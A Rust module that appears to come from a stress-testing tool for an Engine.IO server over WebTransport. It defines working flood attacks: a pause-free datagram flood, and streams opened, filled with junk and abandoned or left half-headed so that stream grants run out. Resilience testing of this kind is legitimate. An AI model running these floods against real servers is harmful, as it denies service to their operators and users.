//! Attacks beside a WebTransport session's stream: datagrams and streams that Engine.IO has no use for.

use std::sync::atomic::Ordering;
use std::time::Duration;

use anyhow::Result;
use wtransport::Connection;
use wtransport::quinn::{RecvStream, SendStream};

use crate::client::{Session, read_away, short, webtransport};
use crate::{Attack, Field};

pub(crate) const ATTACKS: &[Attack] = &[
    Attack {
        name: "datagram-flood",
        title: "Datagrams in WebTransport sessions without a pause",
        unit: "datagrams",
        workers: 32,
        work: |field| Box::pin(async move { datagrams(&field).await }),
    },
    Attack {
        name: "stream-flood",
        title: "Streams in WebTransport sessions, both kinds, opened, written to and abandoned",
        unit: "streams",
        workers: 32,
        work: |field| Box::pin(async move { streams(&field).await }),
    },
];

/// A session in the main namespace.
async fn session(field: &Field) -> Result<Session> {
    let mut session = webtransport(field, None).await?;
    session.send.write_all(&[short("0"), short("40")].concat()).await?;
    Ok(session)
}

/// Does `work` while the session lives, of which everything is read.
async fn beside(
    mut session: Session,
    work: impl AsyncFnOnce(&Connection) -> Result<()>,
) -> Result<()> {
    let reading = read_away(&mut session.recv);
    tokio::select! {
        result = reading => result,
        result = work(&session.connection) => result,
    }
}

/// As fast as the server acknowledges them: each one that is counted has left, in packets that it has to read.
async fn datagrams(field: &Field) -> Result<()> {
    let session = session(field).await?;
    beside(session, async |connection| {
        let quic = connection.quic_connection();
        // the quarter stream id of the first request, and what nobody asked for
        let datagram = [&[0][..], &[b'x'; 1_100]].concat();
        let mut counted = 0;
        while field.is_on() {
            quic.send_datagram_wait(datagram.clone().into()).await?;
            let sent = quic.stats().frame_tx.datagram;
            field.done.fetch_add(sent - counted, Ordering::Relaxed);
            counted = sent;
        }
        Ok(())
    })
    .await
}

/// Streams of which half a header was sent, until the connection ends.
type HalfOpen = Vec<(SendStream, Option<RecvStream>)>;

/// How long the server may take to grant another stream, until it is sure that all are taken.
const GRANTED: Duration = Duration::from_millis(500);

/// In one session all are ended at once, in another the server never learns what they are, until it grants no more;
/// then there is another session.
async fn streams(field: &Field) -> Result<()> {
    let session = session(field).await?;
    let is_half: bool = rand::random();
    beside(session, async |connection| {
        let mut half_open = HalfOpen::new();
        while field.is_on() {
            let two = async {
                match is_half {
                    true => half_streams(field, connection, &mut half_open).await,
                    false => whole_streams(field, connection).await,
                }
            };
            let Ok(result) = tokio::time::timeout(GRANTED, two).await else { break };
            result?;
        }
        Ok(())
    })
    .await
}

async fn whole_streams(field: &Field, connection: &Connection) -> Result<()> {
    let mut send = connection.open_uni().await?.await?;
    send.write_all(&[b'x'; 1_000]).await?;
    field.done();
    let (mut send, _) = connection.open_bi().await?.await?;
    send.write_all(&[b'x'; 1_000]).await?;
    field.done();
    Ok(())
}

/// With half a header.
async fn half_streams(field: &Field, connection: &Connection, open: &mut HalfOpen) -> Result<()> {
    let quic = connection.quic_connection();
    let mut send = quic.open_uni().await?;
    send.write_all(&[0x40]).await?;
    open.push((send, None));
    field.done();
    let (mut send, receive) = quic.open_bi().await?;
    send.write_all(&[0x40]).await?;
    open.push((send, Some(receive)));
    field.done();
    Ok(())
}
